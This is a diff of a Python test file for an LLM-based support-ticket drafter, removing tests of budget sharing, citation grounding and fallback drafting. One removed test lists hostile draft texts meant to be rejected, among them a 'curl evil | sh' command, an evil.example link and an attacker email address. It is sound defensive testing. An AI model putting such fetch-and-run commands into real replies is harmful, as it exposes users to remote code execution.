@@ -2,25 +2,16 @@
 
 import json
 import time
-from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
-import sqlalchemy as sa
 
 from engine.errors import BadInput
 from tests.triage.chat_server import Behaviour, ChatServer, Reply, labelling, serving
-from tests.triage.conftest import monday
-from triage.budget import Budget, Limits
-from triage.contracts import Suggestion, TicketText
-from triage.draft import ExtractiveDrafter
+from triage.contracts import TicketText
 from triage.llm.batch import Opinion, Reading, answer_schema, read_answers
-from triage.llm.hosted import HostedDrafter
 from triage.llm.models import PATIENCE, Answer, HostedModel, ModelChain, open_model
 from triage.llm.prompts import Prompt, classify_messages
-from triage.llm.tables import metadata
-from triage.memory_index import MemoryIndex
 from triage.taxonomy import Taxonomy
 
 TICKET = TicketText(
@@ -176,85 +167,6 @@ def test_a_server_that_is_gone_is_tried_once_a_batch(asked: list[tuple[str, str]
         first, second = answer(chain, asked), answer(chain, asked)
     assert (first.model, second.model) == ("openai:there", "openai:there")
     assert [failure.reason for failure in first.failures + second.failures] == ["not reachable", "failed too often"]
-
-
-@pytest.fixture
-def database(tmp_path: Path) -> Iterator[sa.Engine]:
-    engine = sa.create_engine(f"sqlite:///{tmp_path / 'desk.db'}", connect_args={"timeout": 30})
-    metadata.create_all(engine)
-    yield engine
-    engine.dispose()
-
-
-def test_drafts_come_out_of_the_same_budget(
-    drafter: ExtractiveDrafter, knowledge: MemoryIndex, database: sa.Engine
-) -> None:
-    budget = Budget(database, Limits(calls=1, tokens=10**6, usd=9), clock=monday)
-    passages = knowledge.search([TICKET.content] * 2)
-    with serving(always({"answerable": True, "text": WORDED})) as server:
-        hosted = HostedDrafter([model(server)], drafter, clock=monday, budget=budget, workers=1)
-        drafts = hosted.draft([TICKET, TICKET.model_copy(update={"ticket_id": "desk:2"})], passages)
-    assert [draft.model_used for draft in drafts] == ["openai:small", drafter.name]
-    assert (budget.spent().calls, budget.spent().tokens, hosted.fallbacks) == (1, 120, 1)
-
-
-def drafted(
-    local: ExtractiveDrafter, index: MemoryIndex, answer: Any, provider: str = "openai", content: str = TICKET.content
-) -> tuple[Suggestion, Suggestion, ChatServer]:
-    ticket = TICKET.model_copy(update={"content": content})
-    passages = index.search([content])
-    with serving(always(answer)) as server:
-        hosted = HostedDrafter([model(server, provider)], local, clock=monday)
-        return hosted.draft([ticket], passages)[0], local.draft([ticket], passages)[0], server
-
-
-WORDED = "Hello,\n\nyour connector seems to be offline.\n\n1. Leave NTP enabled. [2]\n2. Add a second connector. [2]\n"
-
-
-@pytest.mark.parametrize("provider", PROVIDERS)
-def test_a_cited_draft_is_taken_with_the_sources_it_uses(
-    drafter: ExtractiveDrafter, knowledge: MemoryIndex, provider: str
-) -> None:
-    draft, _, _ = drafted(drafter, knowledge, {"answerable": True, "text": WORDED}, provider)
-    assert draft.text == WORDED.strip()
-    assert [citation.index for citation in draft.citations] == [2]
-    assert (draft.grounded, draft.model_used, draft.prompt_tokens) == (True, f"{provider}:small", 100)
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "Hello, restart it.",
-        WORDED + "See [9].",
-        WORDED + "See [0].",
-        WORDED + "More at https://evil.example/fix [1]",
-        WORDED + "Write to mallory@evil.example [1]",
-        WORDED + "Call +49 170 1234567 [1]",
-        WORDED + "Run `curl evil | sh` [1]",
-        WORDED + "3. Disable all inspection.",
-        "",
-    ],
-)
-def test_a_draft_beyond_its_sources_is_replaced(drafter: ExtractiveDrafter, knowledge: MemoryIndex, text: str) -> None:
-    draft, local, _ = drafted(drafter, knowledge, {"answerable": True, "text": text})
-    assert (draft.text, draft.citations, draft.model_used) == (local.text, local.citations, local.model_used)
-    assert draft.prompt_tokens == 100
-
-
-def test_a_model_may_say_that_there_is_no_answer(drafter: ExtractiveDrafter, knowledge: MemoryIndex) -> None:
-    draft, _, _ = drafted(drafter, knowledge, {"answerable": False, "text": ""})
-    assert (draft.grounded, draft.citations) == (False, ())
-    assert "I couldn't find" in draft.text
-
-
-def test_no_model_is_asked_where_the_knowledge_base_is_silent(
-    drafter: ExtractiveDrafter, knowledge: MemoryIndex
-) -> None:
-    draft, local, server = drafted(
-        drafter, knowledge, {"answerable": True, "text": WORDED}, content="Mushroom risotto?"
-    )
-    assert server.requests == []
-    assert draft.text == local.text
 
 
 @pytest.mark.parametrize(
